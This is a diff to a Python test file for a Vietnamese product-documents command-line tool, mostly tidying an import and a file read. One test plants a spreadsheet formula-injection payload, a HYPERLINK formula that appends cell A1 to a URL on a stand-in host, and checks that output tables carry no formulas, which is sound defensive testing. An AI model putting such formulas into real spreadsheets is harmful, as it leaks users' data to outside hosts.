@@ -6,11 +6,10 @@ from pathlib import Path
 
 from click.testing import CliRunner
 from openpyxl import load_workbook
+from testpaths import SAMPLES
 
 from ocop_docs.cli import main
 from ocop_docs.io.tables import read_products
-
-from testpaths import SAMPLES
 
 SHEETS = sorted(str(p) for p in (SAMPLES / "forms").glob("phieu-cam-vu-quang-*.yaml"))
 
@@ -88,7 +87,7 @@ def test_score_table_never_carries_a_formula_and_csv_reads_in_vietnamese_excel(t
     evil = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào đây")'
     sheets = []
     for path in SHEETS:
-        text = open(path, encoding="utf-8").read().replace("name: Cam Vũ Quang", f"name: '{evil}'")
+        text = Path(path).read_text(encoding="utf-8").replace("name: Cam Vũ Quang", f"name: '{evil}'")
         sheets.append(tmp_path / Path(path).name)
         sheets[-1].write_text(text, encoding="utf-8")
     result = run("score", *sheets, "--bang", tmp_path / "kq.xlsx")
